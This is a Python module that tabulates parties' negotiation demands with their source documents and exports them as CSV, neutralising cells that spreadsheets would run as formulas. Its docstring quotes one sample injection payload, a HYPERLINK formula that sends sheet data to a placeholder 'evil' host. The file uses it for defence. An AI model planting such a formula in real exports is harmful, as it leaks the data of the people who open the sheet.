"""Demands as a table with their sources, and a CSV of it that spreadsheets open safely.

A cell beginning with = + - @ (or a tab or carriage return) is run as a formula by Excel,
LibreOffice and Google Sheets: a demand text of `=HYPERLINK("http://evil/?"&A1)` would leak
the sheet. `neutralise` puts a single quote in front, which spreadsheets show as text.
"""

from __future__ import annotations

import pandas as pd

from positions.compare import Comparison

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SOURCE_COLUMNS = (
    "party", "issue", "stance", "in_effect", "text", "condition", "document", "date",
    "publisher", "url", "origin", "confidence", "certainty", "demand_id", "document_id",
)


def neutralise(value: object) -> object:
    """Text that a spreadsheet would run as a formula, prefixed with ' so it stays text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def sources_table(comparison: Comparison) -> pd.DataFrame:
    """Every demand that passed the selection, with its source; `in_effect` marks the ones
    that make up a party's current position (older statements on an issue are superseded)."""
    negotiation = comparison.negotiation
    documents = negotiation.documents_by_id()
    parties = {p.id: p.name for p in negotiation.parties}
    issues = {i.id: i.label for i in negotiation.issues}
    current = {
        demand.id
        for item in comparison.issues
        for position in item.positions.values()
        if position is not None
        for demand in position.demands
    }
    rows = []
    for demand in comparison.demands:
        document = documents.get(demand.document)
        rows.append({
            "party": parties.get(demand.party, demand.party),
            "issue": issues.get(demand.issue, demand.issue),
            "stance": demand.stance,
            "in_effect": demand.id in current,
            "text": demand.text,
            "condition": demand.condition,
            "document": document.title if document else demand.document,
            "date": document.date if document else None,
            "publisher": document.publisher if document else None,
            "url": document.url if document else None,
            "origin": demand.origin,
            "confidence": demand.confidence,
            "certainty": demand.certainty,
            "demand_id": demand.id,
            "document_id": demand.document,
        })
    table = pd.DataFrame(rows, columns=list(SOURCE_COLUMNS))
    return table.sort_values(["date", "party", "issue"], ascending=[False, True, True], kind="stable",
                             ignore_index=True)


def filter_rows(table: pd.DataFrame, text: str) -> pd.DataFrame:
    """Rows where any text column contains `text` (case-insensitive, literal, not a pattern)."""
    needle = text.strip().casefold()
    if not needle:
        return table
    columns = ["party", "issue", "text", "condition", "document", "publisher", "demand_id", "document_id"]
    hit = pd.Series(False, index=table.index)
    for column in columns:
        hit |= table[column].fillna("").astype(str).str.casefold().str.contains(needle, regex=False)
    return table[hit].reset_index(drop=True)


def to_csv(table: pd.DataFrame) -> bytes:
    """CSV bytes with every formula-looking cell neutralised (headers included)."""
    safe = table.rename(columns=lambda c: neutralise(str(c)))
    safe = safe.apply(lambda column: column.map(neutralise) if column.dtype == object or
                      pd.api.types.is_string_dtype(column) else column)
    # utf-8-sig: Excel needs the byte-order mark to read non-Latin text (Ukrainian, Russian) correctly.
    return safe.to_csv(index=False).encode("utf-8-sig")
